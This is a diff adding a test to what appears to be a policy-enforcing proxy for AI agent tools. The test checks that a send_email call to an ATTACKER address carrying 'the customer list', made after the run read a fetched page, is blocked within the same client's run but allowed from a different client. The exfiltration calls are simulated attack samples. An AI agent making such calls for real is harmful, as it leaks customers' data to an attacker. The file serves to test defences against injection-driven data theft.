@@ -143,6 +143,25 @@ async def test_injected_address_is_refused_in_enforce(enforcing: ProxyProcess) -
                         tool="send_email", mode="enforce") >= 1
 
 
+async def test_stateless_run_is_the_principal_and_its_client(enforcing: ProxyProcess) -> None:
+    """Without X-Envelope-Run or a session, a stateless client's run is its principal plus the
+    client it introduces itself as: a second connection of the same client is the same run
+    (the taint it read still counts), another client program of the principal is another run."""
+    url = enforcing.url("mail")
+    name = f"planner-{uuid.uuid4().hex[:8]}"
+    async with mcp_client(url, "auto", bearer=AGENT, client_info=(name, "1.2")) as c:
+        await c.call_tool("fetch_page", {"url": "https://news.example/q3"})
+    async with mcp_client(url, "auto", bearer=AGENT, client_info=(name, "1.2")) as c:
+        again = await c.call_tool("send_email", _email(ATTACKER, "Here is the customer list."))
+    assert _decision(again)["code"] == "dataflow_policy_blocked", again
+    assert _record(enforcing, _decision(again)["decision_id"])["run"] == f"principal:agent/client:{name}@1.2"
+    async with mcp_client(url, "auto", bearer=AGENT, client_info=(f"other-{name}", "1.0")) as c:
+        other = await c.call_tool("send_email", _email(ATTACKER, "Here is the customer list."))
+    assert not other.is_error, other.content
+    rec = [r for r in enforcing.audit_records() if r["tool"] == "send_email"][-1]
+    assert rec["run"] == f"principal:agent/client:other-{name}@1.0" and rec["verdict"] == "allow"
+
+
 async def test_injected_address_is_forwarded_and_flagged_in_shadow(shadowing: ProxyProcess) -> None:
     run = _run()
     url = shadowing.url("mail")
